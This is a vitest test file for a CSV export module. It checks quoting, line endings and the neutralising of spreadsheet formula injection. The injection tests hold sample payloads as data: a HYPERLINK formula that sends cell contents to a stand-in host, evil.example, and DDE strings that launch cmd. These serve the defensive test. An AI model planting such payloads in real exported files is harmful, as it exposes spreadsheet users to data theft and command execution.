/**
 * CSV writing through csv-stringify: RFC 4180 quoting exactly as the files have always had it
 * (a comma, a quote, a carriage return or a line feed quotes a field), the record delimiter
 * after every record, no BOM, and every string quoted on request.
 */
import { describe, expect, it } from 'vitest';
import { csvField, formatCsv } from '../src/csv.js';

describe('csvField', () => {
  // Moved from tests/graph/export.test.ts (the graph export's CSV now writes through src/csv.ts).
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [3.5, '3.5'],
    [undefined, ''],
  ])('csvField(%j)', (input, expected) => expect(csvField(input)).toBe(expected));

  it.each([
    ['carriage\rreturn', '"carriage\rreturn"'],
    ['crlf\r\n', '"crlf\r\n"'],
    ['', ''],
    [' padded ', ' padded '],
    ['=1+1', "'=1+1"],
    ["it's", "it's"],
    ['semi;colon\ttab', 'semi;colon\ttab'],
    [null, ''],
    [true, 'true'],
    [false, 'false'],
    [0, '0'],
    [-0, '0'],
    [1e21, '1e+21'],
    [-2.5, '-2.5'],
  ] as const)('csvField(%j) = %j', (input, expected) => expect(csvField(input)).toBe(expected));
});

describe('formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['-2.5', '-2.5'],
    ['+1e3', '+1e3'],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
  ] as const)('%j is written as text: %j', (input, expected) => expect(csvField(input)).toBe(expected));

  it('is neutralised in every cell of a file, quoted or not, and kept exact when turned off', () => {
    const rows = [['title', 'n'], ['=1+1', -3]];
    expect(formatCsv(rows)).toBe("title,n\n'=1+1,-3\n");
    expect(formatCsv(rows, { quoteStrings: true })).toBe(`"title","n"\n"'=1+1",-3\n`);
    expect(formatCsv(rows, { quoteStrings: true, neutralizeFormulas: false })).toBe('"title","n"\n"=1+1",-3\n');
  });
});

describe('formatCsv', () => {
  const rows = [['id', 'title'], [1, 'a, b'], [2, 'line\nbreak'], [3, undefined]];

  it('ends every record with LF by default, the last one too, and writes no BOM', () => {
    expect(formatCsv(rows)).toBe('id,title\n1,"a, b"\n2,"line\nbreak"\n3,\n');
  });

  it('ends records with CRLF when asked, still quoting a lone LF', () => {
    expect(formatCsv(rows, { recordDelimiter: '\r\n' })).toBe('id,title\r\n1,"a, b"\r\n2,"line\nbreak"\r\n3,\r\n');
  });

  it('quotes every string, empty ones too, but no number, boolean or missing value, with quoteStrings', () => {
    expect(formatCsv([['x', '', 'say "hi"', 4, true, null, undefined]], { quoteStrings: true })).toBe(
      '"x","","say ""hi""",4,true,,\n',
    );
  });

  it('writes nothing for no rows and an empty line for an empty row', () => {
    expect(formatCsv([])).toBe('');
    expect(formatCsv([[]])).toBe('\n');
    expect(formatCsv([[]], { recordDelimiter: '\r\n' })).toBe('\r\n');
  });

  it('keeps an explicit undefined option at its default', () => {
    expect(formatCsv([['a', 'b']], { recordDelimiter: undefined, quoteStrings: undefined })).toBe('a,b\n');
  });
});
